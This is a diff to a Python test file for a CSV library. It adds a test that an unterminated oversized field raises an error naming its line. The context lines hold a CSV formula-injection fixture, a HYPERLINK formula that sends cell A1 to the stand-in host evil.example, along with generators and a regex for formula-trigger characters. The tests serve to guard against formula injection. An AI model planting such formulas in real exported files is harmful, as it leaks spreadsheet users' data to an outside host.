@@ -9,12 +9,13 @@ from __future__ import annotations
 import csv
 import io
 import re
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from linkwright.csv_text import csv_records, csv_rows, csv_text
+from linkwright.csv_text import CsvError, csv_records, csv_rows, csv_text
 
 LINK = '=HYPERLINK("http://evil.example/"&A1,"Click")'
 HOSTILE = st.text(alphabet="=+-@\t\r\n' ＝\"',;1.5eA", max_size=8)
@@ -84,6 +85,15 @@ def test_no_written_cell_starts_a_formula(table: list[list[str]]) -> None:
     for row in csv.reader(io.StringIO(csv_text(header, rows), newline="")):
         for cell in row:
             assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell) or float(cell) is not None
+
+
+@pytest.mark.parametrize("read", [lambda text: list(csv_rows(text)), csv_records])
+@pytest.mark.parametrize("quote", ["", '"'])
+def test_a_cell_without_an_end_is_an_error_with_its_line(
+    read: Callable[[str], object], quote: str
+) -> None:
+    with pytest.raises(CsvError, match=r"^line 3 is not CSV: field larger"):
+        read(f"node,via\nn0,n1\nn1,{quote}{'x' * 140_000}\n")
 
 
 def test_a_file_of_a_users_own_is_read_as_it_is() -> None:
